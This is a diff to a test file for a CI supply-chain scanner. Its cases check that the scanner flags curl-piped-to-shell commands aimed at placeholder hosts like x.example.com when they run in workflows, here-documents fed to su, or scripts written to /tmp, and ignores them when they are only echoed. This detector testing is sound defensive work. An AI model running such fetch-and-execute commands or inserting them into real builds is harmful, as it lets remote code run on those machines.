@@ -109,7 +109,7 @@ describe('dangers in a CI change: its supply chain', () => {
       });
       const gitlab = lines('test:', '  script:', '    - npm test');
       assert.deepEqual(found(edit('.gitlab-ci.yml', gitlab, gitlab.replace('    - npm test', '    - curl https://x.example.com/i | sh\n    - npm test'))), {
-        '.gitlab-ci.yml': [`new:3 ${DOWNLOADED('- curl https://x.example.com/i | sh')}`],
+        '.gitlab-ci.yml': [`new:3 ${DOWNLOADED('curl https://x.example.com/i | sh')}`],
       });
     });
 
@@ -131,6 +131,21 @@ describe('dangers in a CI change: its supply chain', () => {
       assert.deepEqual(found(edit(WF, old, ci('      - run: npm test', '      - run: curl -fsSL https://get.example.com/v1/install.sh | sh'))), {});
       assert.deepEqual(found(edit(WF, old, old.replace('/v1/', '/v2/'))), {});
       assert.deepEqual(found(edit('scripts/setup.sh', lines('npm ci'), lines('npm ci', '# Install: curl -fsSL https://x.example.com/i | sh'))), {});
+    });
+
+    it("not the instructions a Makefile's @echo or a script's `cat` here-document prints; a here-document fed to a shell, or cat writing a script, runs", () => {
+      assert.deepEqual(found(edit('Makefile', lines('help:', '\t@echo hi'), lines('help:', '\t@echo "Install: curl -sSL https://x.example.com/i.sh | bash"', '\t-@echo "or: curl -sSL https://x.example.com/i.sh | sh"'))), {});
+      const usage = lines('#!/bin/sh', 'if ! command -v tool >/dev/null; then', "  cat >&2 <<'EOF'", 'tool is missing. Install it:', '  curl -fsSL https://x.example.com/i.sh | sh', 'EOF', '  exit 1', 'fi');
+      assert.deepEqual(found(edit('scripts/check.sh', undefined, usage)), {});
+      const summary = base + lines('      - run: |', '          cat <<EOF >> "$GITHUB_STEP_SUMMARY"', '          curl -fsSL https://x.example.com/i.sh | sh', '          EOF');
+      assert.deepEqual(found(edit(WF, base, summary)), {});
+      // After the here-document, and in one a shell reads, it runs.
+      const after = usage + lines('curl -fsSL https://get.example.com/i.sh | sh');
+      assert.deepEqual(found(edit('scripts/check.sh', undefined, after)), { 'scripts/check.sh': [`new:9 ${DOWNLOADED('curl -fsSL https://get.example.com/i.sh | sh')}`] });
+      const su = lines('#!/bin/sh', 'su - builder <<"EOF"', 'curl -fsSL https://get.example.com/i.sh | sh', 'EOF');
+      assert.deepEqual(found(edit('scripts/user.sh', undefined, su)), { 'scripts/user.sh': [`new:3 ${DOWNLOADED('curl -fsSL https://get.example.com/i.sh | sh')}`] });
+      const written = lines('#!/bin/sh', 'cat > /tmp/boot.sh <<EOF', 'curl -fsSL https://get.example.com/i.sh | sh', 'EOF', 'sh /tmp/boot.sh');
+      assert.deepEqual(found(edit('scripts/boot.sh', undefined, written)), { 'scripts/boot.sh': [`new:3 ${DOWNLOADED('curl -fsSL https://get.example.com/i.sh | sh')}`] });
     });
   });
 
